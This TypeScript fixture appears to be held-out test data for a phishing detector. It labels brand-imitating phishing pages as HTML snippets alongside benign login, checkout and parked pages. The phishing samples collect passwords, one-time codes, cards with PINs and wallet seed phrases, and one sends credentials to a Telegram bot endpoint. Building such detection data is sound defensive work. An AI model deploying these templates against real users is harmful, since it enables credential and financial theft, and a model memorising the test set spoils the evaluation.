import {
  benign,
  button,
  card,
  dead,
  form,
  type LabelledPage,
  menu,
  paragraphs,
  password,
  phish,
  text,
  user,
} from "./build.ts";

const MANY = [
  "Home",
  "Products",
  "Prices",
  "News",
  "Blog",
  "Jobs",
  "Team",
  "Press",
  "Contact",
  "Imprint",
  "Privacy",
  "Terms",
  "Help",
  "Status",
  "Partners",
  "Events",
];

/** Phishing that was written before the judgement was tried, and was not looked at while weights were chosen. */
const PHISHING: readonly LabelledPage[] = [
  ...(
    [
      ["paypal-resolution-center.top", "PayPal", "Log in to your PayPal account"],
      ["netfllx-billing.shop", "Netflix", "Netflix - Update your payment"],
      ["dhl-redelivery.click", "DHL", "DHL Express | Track parcel"],
      ["secure-wellsfargo-online.info", "Wells Fargo", "Sign On | Wells Fargo"],
      ["bankofamerica.verify-user.live", "Bank of America", "Bank of America | Online Banking | Log In"],
      ["coinbase-support.help", "Coinbase", "Coinbase - Sign In"],
      ["instagram-copyright-form.site", "Instagram", "Instagram • Login"],
      ["linkedin.com.profile-view.xyz", "LinkedIn", "LinkedIn Login, Sign in"],
    ] as const
  ).map(([host, brand, title]) =>
    phish("exact copy, own pictures", `https://${host}/signin/`, {
      title,
      head: `<link rel="icon" href="/assets/favicon.ico">`,
      body: `<img src="assets/logo.svg" alt="${brand}"><h1>Welcome back</h1>${form("/signin/auth", user(), password(), button())}${dead("Forgot?", "Help", "Privacy", "Terms")}<footer>© 2026 ${brand}. All rights reserved.</footer>`,
    }),
  ),
  phish(
    "form in a frame",
    "https://mail-portal.pages.dev/#j.doe@acme-widgets.com",
    { title: "Sign in to Outlook", body: `<iframe src="https://hx81.workers.dev/f"></iframe>` },
    {
      frames: [
        {
          url: "https://hx81.workers.dev/f",
          html: `<form method=post action="https://api.telegram.org/bot55:x/sendMessage"><img alt="Microsoft" src=ms.png><input type=email value="j.doe@acme-widgets.com"><input type=password name=p></form>`,
        },
      ],
    },
  ),
  phish(
    "one-time code",
    "https://chase-alert-center.com/otp.php",
    {
      title: "Chase Online - Verification",
      body: `<img src="img/chase-logo.png" alt="Chase"><h2>Enter your one-time code</h2><p>We sent a code to your phone. To avoid suspension, enter it now.</p>${form("otp2.php", text("Verification code", "otp"), button("Verify"))}`,
    },
    { known: { ageDays: 3 } },
  ),
  phish("text message code", "http://45.12.110.9/santander/sms", {
    title: "Santander | Verificación",
    lang: "es",
    body: `<h1>Santander</h1><p>Introduzca el código de verificación que le hemos enviado.</p>${form("sms.php", `<input name=sms type=tel maxlength=6 placeholder="Código SMS">`, button("Continuar"))}`,
  }),
  phish(
    "card and PIN",
    "https://usps-parcel-fee.top/pay",
    {
      title: "USPS® - Redelivery",
      body: `<img src=usps.svg alt="USPS"><p>Your parcel could not be delivered. Pay the redelivery fee of $0.30.</p>${form("pay.php", card(), text("ATM PIN", "pin"), button("Pay"))}`,
    },
    { known: { ageDays: 1 } },
  ),
  phish("card, fine", "https://royalmail-fee-uk.com/", {
    title: "Royal Mail - Shipping fee",
    body: `<h1>Royal Mail</h1><p>Shipping fee £1.45 unpaid</p>${form("/api/save", text("Full name", "n"), text("Date of birth", "dob"), card(), button("Pay now"))}`,
  }),
  phish(
    "survey with a gift",
    "https://walmart-rewards.click/",
    {
      title: "Walmart Reward",
      body: `<img src="walmart-logo.png" alt="Walmart"><h1>Claim your $1000 gift card</h1>${form("https://track.cpa-net.top/go", user(), card(), button("Continue"))}`,
    },
    { known: { ageDays: 12 } },
  ),
  phish("tax refund", "https://hmrc-refund-claim.co/", {
    title: "HMRC - Claim your tax refund",
    body: `<h1>HM Revenue & Customs</h1><p>You have a tax refund of £265.84.</p>${form("step2.php", text("Full name", "name"), text("National Insurance number", "nin"), card(), button("Continue"))}`,
  }),
  phish("tax refund, French", "https://impots-remboursement.net/", {
    title: "impots.gouv.fr - Remboursement",
    lang: "fr",
    body: `<h1>impots.gouv.fr</h1><p>Confirmer vos informations pour recevoir le remboursement.</p>${form("cc.php", text("Numéro de carte", "cc"), text("Cryptogramme", "cvv"), button("Valider"))}`,
  }),
  phish("Japanese", "https://smbc-card.vqsk.cn/", {
    title: "三井住友カード ログイン",
    lang: "ja",
    body: `<h1>三井住友カード</h1><p>お客様のアカウントを確認してください</p>${form("login.php", text("ID", "id"), password("パスワード"), button("ログイン"))}`,
  }),
  phish("Japanese, shop", "https://rakuten-co-jp.login-check.top/", {
    title: "【楽天】ログイン",
    lang: "ja",
    body: `<img src="/logo.png" alt="楽天市場">${form("/post", text("ユーザID", "u"), password("パスワード"), button("ログイン"))}`,
  }),
  phish("Chinese", "https://icbc-secure.vip/", {
    title: "中国工商银行 网上银行登录",
    lang: "zh",
    body: `<h1>中国工商银行</h1>${form("/save.php", text("卡号", "card"), password("密码"), text("验证码", "code"), button("登录"))}`,
  }),
  phish(
    "Russian",
    "https://gosuslugi-lk.site/",
    {
      title: "Госуслуги — Вход",
      lang: "ru",
      body: `<h1>Госуслуги</h1>${form("/l", text("Телефон", "phone"), password("Пароль"), button("Войти"))}${dead("Не удаётся войти?", "Зарегистрироваться", "Помощь")}`,
    },
    { known: { ageDays: 5 } },
  ),
  phish("Polish", "https://inpost-doplata.info/", {
    title: "InPost - dopłata do przesyłki",
    lang: "pl",
    body: `<h1>InPost</h1><p>Wymagana dopłata 1,99 zł.</p>${form("karta.php", text("Numer karty", "k"), text("CVV", "c"), button("Dalej"))}`,
  }),
  phish("Turkish", "https://instagram-telif.com/", {
    title: "Instagram - Giriş yap",
    lang: "tr",
    body: `<img alt="Instagram" src="i.png">${form("x.php", text("Kullanıcı adı", "user"), password("Şifre"), button("Giriş yap"))}`,
  }),
  phish("seed, own words", "https://metamask-verify.gitbook.io/wallet", {
    title: "MetaMask Wallet",
    body: `<h1>Restore your wallet</h1><textarea name="phrase" placeholder="Enter your Secret Recovery Phrase"></textarea>${button("Restore")}`,
  }),
  phish("seed, twelve fields", "https://ledger-live.support-app.xyz/", {
    title: "Ledger Live",
    body: `<h1>Ledger Live</h1><p>Connect your device failed. Enter your words.</p>${form("w.php", ...Array.from({ length: 12 }, (_, at) => `<input name="word${at + 1}" placeholder="Word ${at + 1}">`), button("Continue"))}`,
  }),
  phish("seed, no brand", "https://walletsync-dapp.netlify.app/", {
    title: "DApps Connect",
    body: `<h1>Connect wallet manually</h1><textarea name=seed placeholder="Enter your recovery phrase (12 or 24 words)"></textarea>${button("Import")}`,
  }),
  phish("only a picture", "https://ams-files.web.app/view", {
    title: "Sign in to your account",
    head: `<style>body{background:url(bg.jpg)}</style>`,
    body: form(
      "https://kolo.ru.com/next.php",
      `<input type=email placeholder="Email, phone, or Skype"><input type=password name=p>`,
      button("Sign in"),
    ),
  }),
  phish("names in disguise", "https://account-help.live/", {
    title: "Раyраl: Login",
    body: `<h1>Раyраl</h1>${form("login.php", user(), password(), button())}`,
  }),
  phish("document wall", "https://s3.amazonaws.com/doc-share-8831/index.html", {
    title: "Adobe Document Cloud",
    body: `<img src="adobe-logo.png" alt="Adobe"><p>To view this document, sign in with your email.</p>${form("https://sub.formspree.io/f/abc", user(), password("Email password"), button("View document"))}`,
  }),
  phish("mail quota, no brand", "https://webmail-upgrade.weebly.com/", {
    title: "Webmail Upgrade",
    body: `<h1>Mailbox quota exceeded</h1><p>Your mailbox is full. Verify your account to receive pending messages.</p>${form("https://www.weebly.com/weebly/apps/formSubmit.php", user("Email address"), text("User name", "u"), password(), password("Confirm password"), button("Submit"))}`,
  }),
  phish("first step only", "https://google-drive-share.vercel.app/", {
    title: "Google Drive",
    body: `<img alt="Google" src="g.svg"><h1>Sign in</h1><p>to continue to Google Drive. A file was shared.</p>${form("/id", `<input type=email placeholder="Email or phone">`, button("Next"))}`,
  }),
  phish(
    "compromised site",
    "https://www.huizen-makelaar.nl/wp-content/uploads/2024/ing/",
    {
      title: "Inloggen Mijn ING",
      lang: "nl",
      body: `<img src="ing-logo.svg" alt="ING">${form("send.php", text("Gebruikersnaam", "u"), password("Wachtwoord"), button("Inloggen"))}`,
    },
    { known: { ageDays: 4000 } },
  ),
  phish(
    "compromised site, English",
    "https://oldbakery.example-town.co.za/.well-known/appleid/index.html",
    {
      title: "Apple ID",
      body: `<h1>Apple ID</h1><p>Your account has been locked.</p>${form("next.php", text("Apple ID", "apple"), password(), button("Continue"))}`,
    },
    { known: { ageDays: 3000 } },
  ),
  phish("loads from the brand", "https://fb-appeal-8821.vercel.app/", {
    title: "Facebook",
    head: `<link rel=icon href="https://static.xx.fbcdn.net/rsrc.php/favicon.ico"><link rel=stylesheet href="https://static.xx.fbcdn.net/x.css">`,
    body: `<h2>Appeal a Page Policy violation</h2>${form("/api/a", text("Full name", "n"), user(), text("Phone", "p"), password(), button("Send"))}`,
  }),
  phish("plain, without a brand's word", "https://login-portal-auth.glitch.me/", {
    title: "Login",
    body: form("https://submit-form.com/abc", user(), password(), button()),
  }),
  phish("business mail", "https://ionos-webmail.online/", {
    title: "IONOS Webmail Login",
    lang: "de",
    body: `<img src=ionos.svg alt=IONOS>${form("login.php", user("E-Mail-Adresse"), password("Passwort"), button("Anmelden"))}`,
  }),
  phish(
    "German bank",
    "https://sparkasse-pushtan.update-kunden.de/",
    {
      title: "Sparkasse - Anmelden",
      lang: "de",
      body: `<img alt="Sparkasse" src="s.png"><p>Ihr Konto wurde eingeschränkt. Bitte Daten bestätigen.</p>${form("/de/step1", text("Anmeldename", "user"), password("PIN"), button("Anmelden"))}`,
    },
    { known: { ageDays: 2 } },
  ),
  phish("Brazilian bank", "https://bradesco-cliente.app/", {
    title: "Bradesco | Acesse sua conta",
    lang: "pt",
    body: `<h1>Bradesco</h1>${form("/a", text("CPF", "cpf"), password("Senha"), button("Entrar"))}`,
  }),
  phish("game trade", "https://steamcomunnity.com.ru/tradeoffer", {
    title: "Steam Community",
    head: `<link rel=stylesheet href="https://community.cloudflare.steamstatic.com/a.css">`,
    body: `<h1>Sign in</h1>${form("/login/", text("Steam account name", "username"), password(), text("Steam Guard code", "code"), button("Sign in"))}`,
  }),
];

const BENIGN: readonly LabelledPage[] = [
  benign("brand's log-in", "https://www.netflix.com/login", {
    title: "Netflix",
    body: form("", user(), password(), button("Sign In")),
  }),
  benign("brand's log-in", "https://signin.ebay.de/ws/eBayISAPI.dll", {
    title: "Einloggen oder neu anmelden | eBay",
    body: form("/signin", user(), password(), button("Weiter")),
  }),
  benign("brand's log-in", "https://konto.gmx.net/login", {
    title: "GMX Login",
    body: form("", user(), password(), button()),
  }),
  benign("brand's log-in", "https://idmsa.apple.com/appleauth", {
    title: "Apple ID",
    body: form("", text("Apple ID", "id"), password(), button("Sign In")),
  }),
  benign("brand's log-in", "https://auth.services.adobe.com/", {
    title: "Adobe ID",
    body: form("", user(), button("Continue")),
  }),
  benign("brand's log-in", "https://meine.deutsche-bank.de/trxm/db/", {
    title: "Deutsche Bank OnlineBanking",
    body: form("", text("Filiale", "f"), password("PIN"), button("Anmelden")),
  }),
  benign("rented log-in", "https://acme.okta.com/login/login.htm", {
    title: "Acme - Sign In",
    body: `<img src=/logo.png alt=Acme>${form("", user(), password(), button("Sign In"))}`,
  }),
  benign("rented log-in", "https://login.microsoftonline.com/common/oauth2", {
    title: "Sign in to your account",
    body: `<img alt="Contoso" src="banner.png">${form("", user(), password(), button("Sign in"))}`,
  }),
  benign("rented log-in", "https://shop-id.auth0.com/login", {
    title: "Log in | Paw Shop",
    body: `${form("", user(), password(), button("Continue"))}<button>Continue with Google</button><button>Continue with Apple</button>`,
  }),
  benign("company log-in with others' buttons", "https://app.taskpilot.io/login", {
    title: "Log in - TaskPilot",
    body: `<h1>Log in to TaskPilot</h1><button><img src=g.svg alt="Google">Sign in with Google</button><button><img src=ms.svg alt="Microsoft">Sign in with Microsoft</button><button>Sign in with Apple</button>${form("/login", user(), password(), button())}<a href="/forgot">Forgot password</a><a href="/signup">Sign up</a>`,
  }),
  benign("company log-in with others' buttons", "https://portal.nordhafen-reederei.de/sso", {
    title: "Anmelden",
    lang: "de",
    body: `<h1>Mitarbeiterportal</h1><a href="https://login.microsoftonline.com/x/saml2"><img src="microsoft-logo.png" alt="Microsoft"> Mit Microsoft anmelden</a>${form("/sso", text("Benutzername", "user"), password("Kennwort"), button("Anmelden"))}`,
  }),
  benign("company log-in with others' buttons", "https://sso.uni-beispielstadt.de/idp/profile/SAML2", {
    title: "Web Login Service",
    body: `<img src="logo.png" alt="Universität"><p>Login to GitHub Enterprise</p>${form("", text("Username", "u"), password(), button("Login"))}`,
  }),
  benign(
    "own mail",
    "https://mail.stadtwerke-musterau.de/owa/auth/logon.aspx?url=https%3a%2f%2fmail",
    {
      title: "Outlook",
      body: `<img src="/owa/auth/15.2.1/themes/resources/olk_logo_white.png" alt="Outlook">${form("/owa/auth.owa", text("Domain\\user name:", "username"), password("Password:"), button("sign in"))}`,
    },
    { technologies: ["Outlook on the web"] },
  ),
  benign(
    "own mail",
    "https://webmail.kleinverein.org/",
    {
      title: "Roundcube Webmail :: Welcome to Roundcube Webmail",
      body: form("./?_task=login", text("Username", "_user"), password("Password", "_pass"), button("Login")),
    },
    { technologies: ["Roundcube"] },
  ),
  benign(
    "own mail",
    "https://adfs.hospital-trust.nhs.uk/adfs/ls/",
    {
      title: "Sign In",
      body: `<div>Sign in with your organizational account</div>${form("/adfs/ls/", user(), password(), button("Sign in"))}<footer>© 2016 Microsoft</footer>`,
    },
    { technologies: ["Microsoft AD FS"] },
  ),
  benign(
    "own code",
    "https://git.maschinenbau-huber.at/users/sign_in",
    {
      title: "Sign in · GitLab",
      body: `<h1>GitLab Community Edition</h1>${form("/users/sign_in", text("Username or primary email", "user[login]"), password(), button("Sign in"))}`,
    },
    { technologies: ["GitLab"] },
  ),
  benign("own cloud", "https://cloud.familie-berger.net/login", {
    title: "Anmelden – Nextcloud",
    lang: "de",
    body: form("/login", text("Kontoname oder E-Mail", "user"), password("Passwort"), button("Anmelden")),
  }),
  benign(
    "blog's own log-in",
    "https://quiltsandcake.com/wp-login.php",
    {
      title: "Log In ‹ Quilts and Cake — WordPress",
      body: `<h1><a href="https://wordpress.org/">Powered by WordPress</a></h1>${form("https://quiltsandcake.com/wp-login.php", text("Username or Email Address", "log"), password("Password", "pwd"), button("Log In"))}<a href="/">← Go to Quilts and Cake</a>`,
    },
    { technologies: ["WordPress"] },
  ),
  benign("shop's check-out", "https://kaffeeroesterei-lind.de/kasse", {
    title: "Kasse - Kaffeerösterei Lind",
    lang: "de",
    body: `${menu(...MANY)}<h1>Kasse</h1><img src="paypal.svg" alt="PayPal"><img src="visa.svg" alt="Visa"><img src="klarna.svg" alt="Klarna"><img src="amex.svg" alt="American Express">${form("/kasse", card(), button("Jetzt kaufen"))}`,
  }),
  benign("shop's check-out", "https://trailboots.co.uk/checkout", {
    title: "Checkout - Trail Boots",
    body: `<h1>Checkout</h1><button>Pay with PayPal</button><button>Apple Pay</button>${form("/checkout", user(), card(), button("Pay now"))}<p>Delivered by Royal Mail or DPD. Delivery fee £3.99.</p>`,
  }),
  benign("shop's log-in", "https://www.fahrrad-meier.ch/kundenlogin", {
    title: "Kundenlogin | Fahrrad Meier",
    lang: "de",
    body: `${menu(...MANY)}${form("/login", user("E-Mail"), password("Passwort"), button("Anmelden"))}<img src="/swisspost.png" alt="Swiss Post">`,
  }),
  benign("reseller", "https://www.obsthandel-gravenstein.de/", {
    title: "Apple Reseller Gravenstein – iPhone, iPad, Mac",
    lang: "de",
    body: `${menu(...MANY)}<h1>Apple Produkte bei Gravenstein</h1>${form("/login", user(), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("news", "https://www.dailyharbour.com/tech/paypal-phishing-wave", {
    title: "PayPal users hit by new phishing wave - Daily Harbour",
    body: `${menu(...MANY)}<h1>PayPal users hit by new phishing wave</h1>${paragraphs("Criminals send mails that say “your account has been limited” and lead to a copy of PayPal’s log-in.", "The company asks customers to verify their identity only on paypal.com.")}<a href="https://www.paypal.com/">paypal.com</a>${form("/newsletter", user(), button("Subscribe"))}`,
  }),
  benign("news with a log-in", "https://www.abendblatt-muster.de/netflix-preise", {
    title: "Netflix erhöht die Preise",
    lang: "de",
    body: `<h1>Netflix erhöht die Preise</h1><p>Der Dienst wird teurer.</p>${form("/login", user(), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("forum", "https://forum.smartphonefreunde.net/t/whatsapp-login/4711", {
    title: "WhatsApp login problem",
    body: `<h1>WhatsApp login problem</h1><p>I cannot log in to WhatsApp since the update.</p>${form("/session", text("Username", "u"), password(), button("Log in"))}`,
  }),
  benign("security vendor", "https://www.hookwatch.io/blog/office-365-kit", {
    title: "Inside an Office 365 phishing kit | Hookwatch",
    body: `${menu(...MANY)}<h1>Inside an Office 365 phishing kit</h1>${paragraphs("The kit copies the page “Sign in to your account” of Microsoft.", "It sends what is typed to api.telegram.org/bot123/sendMessage.")}${form("/demo", user("Work email"), button("Request a demo"))}`,
  }),
  benign("password manager", "https://vault.keyharbour.app/", {
    title: "Keyharbour Vault",
    body: `<h1>Unlock Keyharbour</h1><ul><li>Netflix</li><li>PayPal</li><li>Amazon</li></ul>${form("", password("Master password"), button("Unlock"))}`,
  }),
  benign("wallet's help", "https://learn.coinbasics.org/seed-phrase", {
    title: "What is a seed phrase?",
    body: `<h1>What is a seed phrase?</h1>${paragraphs("A recovery phrase of 12 words opens your wallet. MetaMask, Ledger and Trezor make one.", "Never type it on a website.")}${form("/search", `<input type=search name=q placeholder="Search">`)}`,
  }),
  benign(
    "parked",
    "https://paypaI-login-secure.com/",
    {
      title: "paypai-login-secure.com",
      body: `<p>This domain is for sale.</p><a href="https://www.sedo.com/x">Buy</a>`,
    },
    { known: { ageDays: 20 } },
  ),
  benign("parked", "https://micros0ft-support.net/", {
    title: "micros0ft-support.net is parked",
    body: "<h1>Related searches</h1><a href='/s?q=microsoft'>Microsoft Support</a><a href='/s?q=login'>Login</a>",
  }),
  benign("error", "https://app-login.web.app/", {
    title: "Page Not Found",
    body: "<h1>404</h1><p>This page could not be found. Firebase Hosting.</p>",
  }),
  benign("error", "https://paypal-secure.weebly.com/", {
    title: "404 - Page Not Found",
    body: "<p>Site suspended for violating the terms.</p>",
  }),
  benign("default page", "http://198.51.100.7/", {
    title: "Apache2 Ubuntu Default Page: It works",
    body: "<h1>It works!</h1>",
  }),
  benign("router", "http://203.0.113.9/login.html", {
    title: "FRITZ!Box",
    body: form("/login", password("FRITZ!Box-Kennwort"), button("Anmelden")),
  }),
  benign("portfolio on free hosting", "https://janedoe.github.io/", {
    title: "Jane Doe - Developer",
    body: `<h1>Hi, I am Jane</h1><a href="https://github.com/janedoe">GitHub</a><a href="https://linkedin.com/in/janedoe">LinkedIn</a><a href="https://twitter.com/janedoe">Twitter</a><form action="https://formspree.io/f/abc" method=post><input type=email name=email><textarea name=message></textarea><button>Send</button></form>`,
  }),
  benign("exercise on free hosting", "https://sam-learns.github.io/netflix-clone/", {
    title: "Netflix Clone",
    body: `<h1>Unlimited movies, TV shows and more</h1><p>A practice project. Not affiliated with Netflix.</p><a href="https://github.com/sam-learns/netflix-clone">Source</a>${form("#", user(), button("Get started"))}`,
  }),
  benign("small app on free hosting", "https://recipe-box.vercel.app/login", {
    title: "Recipe Box - Login",
    body: `<h1>Recipe Box</h1>${form("/api/login", user(), password(), button())}<button>Continue with Google</button><a href=/signup>Create account</a>`,
  }),
  benign("small app on free hosting", "https://team-scores.herokuapp.com/login", {
    title: "Login",
    body: form("/login", text("Username", "username"), password(), button()),
  }),
  benign("small app on free hosting", "https://clubkasse.onrender.com/", {
    title: "Clubkasse",
    lang: "de",
    body: `<h1>Clubkasse</h1>${form("/auth", user("E-Mail"), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("bank not in the list", "https://banking.raiba-musterland.de/login", {
    title: "Anmelden - Online-Banking",
    lang: "de",
    body: form("/login", text("Benutzername", "u"), password("PIN"), button("Anmelden")),
  }),
  benign("bank not in the list", "https://www.firstlakesbank.com/login", {
    title: "Online Banking Login | First Lakes Bank",
    body: `${menu(...MANY)}${form("/auth", text("User ID", "u"), password(), button("Sign On"))}<p>Apple, the Apple logo and Google Play are marks of their owners.</p>`,
  }),
  benign("two factors", "https://id.taskpilot.io/otp", {
    title: "Verify | TaskPilot",
    body: form("/otp", text("Verification code", "otp"), button("Verify")),
  }),
  benign("Japanese", "https://www.sakura-shop.jp/login", {
    title: "ログイン | さくらショップ",
    lang: "ja",
    body: `${form("/login", user("メール"), password("パスワード"), button("ログイン"))}<p>楽天ペイ・PayPay が使えます</p>`,
  }),
  benign("Russian", "https://lk.stroymarket-primer.ru/", {
    title: "Вход в личный кабинет",
    lang: "ru",
    body: form("/login", text("Телефон", "phone"), password("Пароль"), button("Войти")),
  }),
  benign("Chinese", "https://www.lvyou-shili.cn/login", {
    title: "用户登录 - 旅游示例网",
    lang: "zh",
    body: `${form("/login", text("手机号", "m"), password("密码"), button("登录"))}<a href="/wx">微信登录</a><a href="/ali">支付宝登录</a>`,
  }),
  benign("Arabic", "https://souq-mithal.ae/login", {
    title: "تسجيل الدخول",
    lang: "ar",
    body: form("/login", user("البريد الإلكتروني"), password("كلمة المرور"), button("دخول")),
  }),
  benign("school", "https://moodle.gymnasium-beispiel.de/login/index.php", {
    title: "Gymnasium Beispiel: Anmelden",
    lang: "de",
    body: `${form("/login/index.php", text("Anmeldename", "username"), password("Kennwort"), button("Login"))}<a href="https://login.microsoftonline.com/">Office 365</a>`,
  }),
  benign("hotel", "https://www.pension-seeblick.at/buchen", {
    title: "Zimmer buchen - Pension Seeblick",
    lang: "de",
    body: `${menu(...MANY)}<p>Auch auf Booking.com und Airbnb.</p>${form("/buchen", user(), card(), button("Buchen"))}`,
  }),
  benign("carrier's partner", "https://www.paketstation-muster.de/tracking", {
    title: "Sendungsverfolgung DHL, DPD und UPS",
    lang: "de",
    body: `<h1>Sendung verfolgen</h1>${form("/t", text("Sendungsnummer", "nr"), button("Verfolgen"))}`,
  }),
  benign(
    "web mail of a host",
    "https://mail.hosting-beispiel.net:2096/",
    {
      title: "Webmail Login",
      body: form("/login/", user("Email Address", "user"), password("Password", "pass"), button("Log in")),
    },
    { technologies: ["cPanel"] },
  ),
  benign("jobs", "https://karriere.metallbau-ost.de/bewerben", {
    title: "Jetzt bewerben",
    lang: "de",
    body: `<button>Mit LinkedIn bewerben</button>${form("/b", user(), text("Telefon", "tel"), button("Weiter"))}`,
  }),
  benign("status page", "https://status.cloudhafen.io/", {
    title: "Cloudhafen Status - AWS and Google incidents",
    body: `<h1>All systems operational</h1>${form("/subscribe", user(), button("Subscribe"))}`,
  }),
  benign("app page", "https://getwalkmate.com/", {
    title: "Walkmate - Walk with friends",
    body: `${menu(...MANY)}<a href="https://apps.apple.com/app/x"><img src="appstore.svg" alt="Download on the App Store"></a><a href="https://play.google.com/x"><img src="gplay.svg" alt="Google Play"></a>`,
  }),
  benign("music artist", "https://www.thelowtides.com/", {
    title: "The Low Tides",
    body: `<a href="https://open.spotify.com/a">Spotify</a><a href="https://music.apple.com/a">Apple Music</a><a href="https://www.youtube.com/a">YouTube</a><a href="https://www.instagram.com/a">Instagram</a><a href="https://www.facebook.com/a">Facebook</a>`,
  }),
];

export const ASIDE: readonly LabelledPage[] = [...PHISHING, ...BENIGN];
